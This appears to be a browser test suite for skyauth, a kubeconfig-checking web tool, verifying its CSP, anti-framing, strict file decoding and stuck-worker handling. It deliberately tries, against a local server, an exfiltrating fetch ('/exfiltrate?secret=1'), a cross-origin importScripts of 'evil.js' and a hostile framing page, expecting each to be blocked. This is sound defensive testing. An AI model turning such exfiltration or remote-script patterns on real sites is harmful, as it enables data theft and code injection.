// Issue #17's browser-side hardening, tried the way an attacker or a careless user would:
// the analysis worker runs under the page's CSP even where no header can be sent (GitHub
// Pages), another site framing skyauth does not get the tool, files are decoded by the CLI's
// rule, and a stuck check is replaced by a newer one with the panel saying so.
"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const http = require("node:http");
const { launch } = require("./support/harness.cjs");

const DESKTOP = { width: 1440, height: 1000 };

const KUBECONFIG =
  "apiVersion: v1\nkind: Config\ncurrent-context: ctx-one\nclusters:\n- name: k\n  cluster: {server: 'https://k.example.com'}\n" +
  "users:\n- name: u\n  user: {token: abc}\ncontexts:\n- name: ctx-one\n  context: {cluster: k, user: u, namespace: ml}\n";

/** The same kubeconfig with its one context named `name`. */
function kubeconfigNamed(name) {
  return KUBECONFIG.replaceAll("ctx-one", name);
}

/**
 * Another origin (another port on loopback): serves `body` at every path with permissive
 * CORS, so only a CSP can stop a request to it; records every request it gets.
 */
async function otherOrigin(body, contentType) {
  const requests = [];
  const server = http.createServer((req, res) => {
    requests.push(req.url);
    res.writeHead(200, { "content-type": contentType, "access-control-allow-origin": "*" });
    res.end(body);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${server.address().port}`;
  return { origin, requests, close: () => new Promise((resolve) => server.close(resolve)) };
}

/** Pastes `text` into a textarea the way a paste arrives: one input event. */
async function paste(locator, text) {
  await locator.evaluate((area, value) => {
    area.value = value;
    area.dispatchEvent(new InputEvent("input", { bubbles: true, inputType: "insertFromPaste" }));
  }, text);
}

test("the analysis worker runs under the page's policy, with no header to help", async (t) => {
  // As on GitHub Pages: the page's <meta> policy only.
  const app = await launch({ policyHeader: false });
  t.after(app.close);
  const foreign = await otherOrigin("self.imported = true;", "text/javascript");
  t.after(foreign.close);
  const page = await app.open(DESKTOP);
  const diagnosis = page.getByRole("region", { name: "Diagnosis" });
  await page.getByLabel("Kubeconfig", { exact: true }).fill(kubeconfigNamed("first-ctx"));
  await diagnosis.getByText("first-ctx", { exact: true }).first().waitFor();
  const workers = page.workers();
  assert.equal(workers.length, 1, "one analysis worker");
  const worker = workers[0];

  const fetched = await worker.evaluate(async (url) => {
    try {
      await fetch(url, { mode: "cors" });
      return "fetched";
    } catch (error) {
      return `refused: ${error.name}`;
    }
  }, `${foreign.origin}/exfiltrate?secret=1`);
  assert.equal(fetched, "refused: TypeError", "fetch to another origin from the worker");

  const imported = await worker.evaluate((url) => {
    try {
      importScripts(url);
      return `imported: ${self.imported}`;
    } catch (error) {
      return `refused: ${error.name}`;
    }
  }, `${foreign.origin}/evil.js`);
  assert.equal(imported, "refused: NetworkError", "importScripts from another origin in the worker");
  assert.deepEqual(foreign.requests, [], "the other origin never heard from the worker");

  // The worker's own files are still allowed: the doctor answers the next paste.
  await page.getByLabel("Kubeconfig", { exact: true }).fill(kubeconfigNamed("second-ctx"));
  await diagnosis.getByText("second-ctx", { exact: true }).first().waitFor();
  assert.ok(
    app.requests.some((url) => url.startsWith(`${app.site.origin}/skyauth-worker_bg.wasm?v=`)),
    "the worker's wasm came from the page's origin, versioned",
  );
});

test("the local server sends the page's policy as a header, with frame-ancestors", async (t) => {
  const app = await launch();
  t.after(app.close);
  const response = await fetch(app.site.url);
  const header = response.headers.get("content-security-policy");
  assert.match(header, /default-src 'none'/);
  assert.match(header, /worker-src blob:/);
  assert.match(header, /connect-src 'self'/);
  assert.match(header, /frame-ancestors 'none'/);
  assert.equal(response.headers.get("x-frame-options"), "DENY");
  // The header and the meta tag say the same (apart from what only a header can say).
  const html = await response.text();
  const meta = html.match(/http-equiv="Content-Security-Policy"\s+content="([^"]+)"/)[1];
  assert.equal(header, `${meta}; frame-ancestors 'none'`);
});

/** A page of another origin that frames `url`. */
async function framingSite(url) {
  return otherOrigin(`<!doctype html><title>evil</title><iframe src="${url}" width="1200" height="800"></iframe>`, "text/html");
}

test("another site framing skyauth does not get the tool", async (t) => {
  await t.test("without headers (GitHub Pages), the page shows only a link to open it in its own tab", async (t) => {
    const app = await launch({ policyHeader: false });
    t.after(app.close);
    const evil = await framingSite(app.site.url);
    t.after(evil.close);
    const page = await app.context.newPage();
    await page.goto(`${evil.origin}/`);
    const frame = page.frameLocator("iframe");
    const link = frame.getByRole("link", { name: "Open skyauth in its own tab" });
    await link.waitFor();
    await frame.getByText(/shown inside another site/).waitFor();
    assert.equal(await frame.getByLabel("Kubeconfig", { exact: true }).count(), 0, "no paste box in the frame");
    assert.equal(await frame.getByRole("heading", { name: "Kubeconfig doctor" }).count(), 0);
    await app.screenshot(page, "framed-by-another-site");
    // The link opens the tool, whole, in a tab of its own.
    const [tab] = await Promise.all([app.context.waitForEvent("page"), link.click()]);
    await tab.getByLabel("Kubeconfig", { exact: true }).waitFor();
    assert.equal(new URL(tab.url()).origin, app.site.origin);
  });

  await t.test("with the header, the browser refuses to frame the page at all", async (t) => {
    const app = await launch();
    t.after(app.close);
    const evil = await framingSite(app.site.url);
    t.after(evil.close);
    const page = await app.context.newPage();
    // `load` waits for the frame too: it has loaded what it will load.
    await page.goto(`${evil.origin}/`, { waitUntil: "load" });
    const frame = page.frames().find((f) => f !== page.mainFrame());
    assert.ok(frame, "the iframe exists");
    assert.doesNotMatch(frame.url(), new RegExp(`^${app.site.origin}`), "the browser replaced the page with its error page");
    assert.equal(await page.frameLocator("iframe").getByRole("heading", { name: "skyauth" }).count(), 0);
    assert.equal(await page.frameLocator("iframe").getByLabel("Kubeconfig", { exact: true }).count(), 0);
  });

  await t.test("the page of its own origin is not refused", async (t) => {
    const app = await launch({ policyHeader: false });
    t.after(app.close);
    const page = await app.open(DESKTOP);
    await page.getByLabel("Kubeconfig", { exact: true }).waitFor();
    assert.equal(await page.getByText(/shown inside another site/).count(), 0);
  });
});

test("files are decoded by the CLI's rule: UTF-16 with a mark is read, Latin-1 refused with what to do", async (t) => {
  const app = await launch();
  t.after(app.close);
  const page = await app.open(DESKTOP);
  const chooser = page.locator('#doctor input[type="file"]').first();
  const diagnosis = page.getByRole("region", { name: "Diagnosis" });
  const box = page.getByLabel("Kubeconfig", { exact: true });

  const text = kubeconfigNamed("café-ctx");
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
  await chooser.setInputFiles({ name: "windows.yaml", mimeType: "text/yaml", buffer: utf16 });
  await diagnosis.getByText("café-ctx", { exact: true }).first().waitFor();
  assert.equal(await box.inputValue(), text, "the box holds the decoded text, without the mark");

  const latin1 = Buffer.from(text, "latin1");
  const offset = latin1.indexOf(0xe9);
  await chooser.setInputFiles({ name: "latin1.yaml", mimeType: "text/yaml", buffer: latin1 });
  const alert = page.locator("#doctor").getByRole("alert").filter({ hasText: "latin1.yaml" });
  await alert.waitFor();
  const message = await alert.innerText();
  assert.match(message, new RegExp(`latin1\\.yaml: it is not UTF-8 text: byte ${offset} \\(0xE9\\)`));
  assert.match(message, /iconv -f latin1 -t utf-8/);
  assert.equal(await box.inputValue(), "", "nothing of the refused file, nor the earlier one, stays");
  await diagnosis.getByText(/Paste a kubeconfig above/).waitFor();

  // A dropped file goes through the same rule.
  const transfer = await page.evaluateHandle((bytes) => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array(bytes)], "dropped.yaml", { type: "text/yaml" }));
    return data;
  }, [...utf16]);
  await page.locator("#doctor .drop-zone").first().dispatchEvent("drop", { dataTransfer: transfer });
  await diagnosis.getByText("café-ctx", { exact: true }).first().waitFor();
  assert.deepEqual(app.problems, []);
});

test("a check stuck for more than 3 s is stopped by a newer paste, and the panel says so", async (t) => {
  const app = await launch();
  t.after(app.close);
  const page = await app.open(DESKTOP);
  const diagnosis = page.getByRole("region", { name: "Diagnosis" });
  const box = page.getByLabel("Kubeconfig", { exact: true });
  await paste(box, kubeconfigNamed("warm-ctx"));
  await diagnosis.getByText("warm-ctx", { exact: true }).first().waitFor();
  assert.equal(page.workers().length, 1);
  const stuckWorker = page.workers()[0];
  const stuckWorkerClosed = new Promise((resolve) => stuckWorker.once("close", resolve));

  // Freeze the worker for real: the DevTools protocol's debugger, attached to the worker's
  // target through the page's session, pauses it at the next script it runs (the next
  // question), as a pathological input would keep it busy. No test code is in the product.
  const cdp = await app.context.newCDPSession(page);
  const attached = new Promise((resolve) =>
    cdp.on("Target.attachedToTarget", (event) => {
      if (event.targetInfo.type === "worker") resolve(event.sessionId);
    }),
  );
  await cdp.send("Target.setAutoAttach", { autoAttach: true, waitForDebuggerOnStart: false, flatten: false });
  const sessionId = await attached;
  // The worker's session speaks through the page's: a command is answered by a message with
  // its id, and the pause is announced by a `Debugger.paused` event.
  let nextId = 1;
  const answered = new Map();
  let onPaused;
  const paused = new Promise((resolve) => (onPaused = resolve));
  cdp.on("Target.receivedMessageFromTarget", (event) => {
    if (event.sessionId !== sessionId) return;
    const message = JSON.parse(event.message);
    if (message.method === "Debugger.paused") onPaused();
    if (answered.has(message.id)) answered.get(message.id)(message);
  });
  const inWorker = async (method, params = {}) => {
    const id = nextId++;
    const answer = new Promise((resolve) => answered.set(id, resolve));
    await cdp.send("Target.sendMessageToTarget", { sessionId, message: JSON.stringify({ id, method, params }) });
    const message = await answer;
    assert.ok(!message.error, `${method}: ${JSON.stringify(message.error)}`);
  };
  await inWorker("Debugger.enable");
  await inWorker("Debugger.pause");

  await paste(box, kubeconfigNamed("stuck-ctx"));
  await paused;
  await page.waitForTimeout(3500);
  assert.equal(await diagnosis.getByText("stuck-ctx", { exact: true }).count(), 0, "the stuck check has not answered");

  await paste(box, kubeconfigNamed("newer-ctx"));
  await diagnosis.getByText("newer-ctx", { exact: true }).first().waitFor({ timeout: 10000 });
  await diagnosis.getByRole("status").getByText(/earlier text ran for more than 3 seconds and was stopped/).waitFor();
  assert.equal(await diagnosis.getByText("stuck-ctx", { exact: true }).count(), 0);
  await stuckWorkerClosed;
  assert.deepEqual(
    page.workers().filter((worker) => worker !== stuckWorker).length,
    1,
    "the stuck worker was stopped; one new worker answers",
  );
  await app.screenshot(page, "stuck-check-replaced");

  // The next paste clears the note.
  await paste(box, kubeconfigNamed("calm-ctx"));
  await diagnosis.getByText("calm-ctx", { exact: true }).first().waitFor();
  assert.equal(await diagnosis.getByText(/was stopped/).count(), 0);
  await cdp.detach().catch(() => {});
});
